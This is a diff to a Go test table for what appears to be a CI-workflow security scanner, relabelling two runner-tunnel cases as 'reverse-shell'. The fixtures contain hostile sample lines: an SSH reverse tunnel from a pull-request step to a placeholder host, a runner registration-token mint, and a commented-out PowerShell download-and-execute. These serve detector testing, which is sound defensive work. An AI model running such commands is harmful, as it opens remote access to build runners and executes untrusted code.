@@ -40,8 +40,8 @@ func TestSeverityByContext(t *testing.T) {
 		{"mint with no registration to follow", "ci/agent.sh", "T=$(gh api -X POST repos/$R/actions/runners/registration-token --jq .token)\n./run.sh --jitconfig \"$J\"", 1, "high runner-register"},
 		// A maintainer's debugging action opens a session on a manual run;
 		// a tunnel a step opens itself is the attack.
-		{"debugging action on a manual run", ".github/workflows/a.yml", "on:\n  workflow_dispatch:\n    inputs:\n      debug_enabled:\n        type: boolean\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: mxschmitt/action-tmate@v3\n        if: ${{ inputs.debug_enabled }}\n        with:\n          limit-access-to-actor: true", 10, "medium runner-tunnel"},
-		{"reverse tunnel from a step", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 u@x.invalid && sleep 21600", 6, "high runner-tunnel"},
+		{"debugging action on a manual run", ".github/workflows/a.yml", "on:\n  workflow_dispatch:\n    inputs:\n      debug_enabled:\n        type: boolean\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: mxschmitt/action-tmate@v3\n        if: ${{ inputs.debug_enabled }}\n        with:\n          limit-access-to-actor: true", 10, "medium reverse-shell"},
+		{"reverse tunnel from a step", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 u@x.invalid && sleep 21600", 6, "high reverse-shell"},
 		// A YAML or shell line a # opens is a comment, spaced or not: a step
 		// commented out does not run.
 		{"CI step commented out", "appveyor.yml", "init:\n  #- ps: iex ((new-object net.webclient).DownloadString('https://x.invalid/e.ps1'))\n  - cmake --version", 2, "medium download-and-run"},
